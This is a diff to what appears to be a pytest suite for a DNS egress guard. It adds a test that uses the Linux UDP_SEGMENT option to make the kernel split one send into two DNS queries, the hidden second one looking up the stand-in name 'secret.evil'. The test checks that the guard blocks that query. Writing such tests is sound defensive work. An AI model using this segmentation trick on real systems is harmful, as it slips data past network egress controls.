@@ -232,3 +232,54 @@ print(json.dumps([sent == len(query("silent.test")), middle - started, time.mono
     assert sent
     assert 1 < unconnected < 5
     assert 1 < of_stub < 5
+
+
+CUT = """
+import struct
+UDP_SEGMENT, UDP = 103, socket.IPPROTO_UDP
+secret = query("secret.evil", payload=0)
+first = query("api.test", more=struct.pack("!HH", 10, len(secret)))
+first = first[:-6] + struct.pack("!HHH", 4 + len(secret), 10, len(secret))  # the second is the cookie of the first
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+segment = struct.pack("=H", len(first))
+def attempt(call):
+    try:
+        return call()
+    except OSError as error:
+        return error.errno
+"""
+CUTS = {
+    "by a control message": "s.sendmsg([first + secret], [(UDP, UDP_SEGMENT, segment)], 0, (NAMESERVER, 53))",
+    "by a control message with bytes left behind it": (
+        "libc_sendmsg(s, first + secret, struct.pack('=QiiH6x', 18, UDP, UDP_SEGMENT, len(first)) + struct.pack('=Q', 18))"
+    ),
+    "by an option": "s.setsockopt(UDP, UDP_SEGMENT, len(first)) or s.sendto(first + secret, (NAMESERVER, 53))",
+    "by an option, connected": (
+        "s.connect((NAMESERVER, 53)) or s.setsockopt(UDP, UDP_SEGMENT, len(first)) or "
+        "s.send(first + secret, socket.MSG_NOSIGNAL)"
+    ),
+}
+LIBC_SENDMSG = """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+def libc_sendmsg(s, data, control):
+    name = struct.pack("=H", socket.AF_INET) + struct.pack("!H", 53) + socket.inet_aton(NAMESERVER) + bytes(8)
+    keep = [ctypes.create_string_buffer(part, len(part)) for part in (name, data, control)]
+    at = [ctypes.addressof(part) for part in keep]
+    vector = ctypes.create_string_buffer(struct.pack("=QQ", at[1], len(data)), 16)
+    header = struct.pack("=QIIQQQQiI", at[0], 16, 0, ctypes.addressof(vector), 1, at[2], len(control), 0, 0)
+    return libc.sendmsg(s.fileno(), ctypes.create_string_buffer(header, len(header)), 0)
+"""
+
+
+@pytest.mark.parametrize("cut", CUTS)
+def test_a_question_is_not_cut_in_two(wire: Wire, guarded: Guarded, cut: str) -> None:
+    """The kernel cuts a message where it is told to (UDP_SEGMENT), and the second half is a question for another name."""
+    code = (
+        f"{LIBC_SENDMSG}{CUT}sent = attempt(lambda: {CUTS[cut]})\nimport time; time.sleep(0.3)\nprint(json.dumps(sent))"
+    )
+    run(wire, lambda command: command, code)
+    assert ("dns", "secret.evil") in [(event["kind"], event.get("name")) for event in wire.events()]
+    assert run(wire, guarded, code) is not None
+    events = [(event["kind"], event.get("name")) for event in wire.events()]
+    assert events == [("dns", "api.test")], events
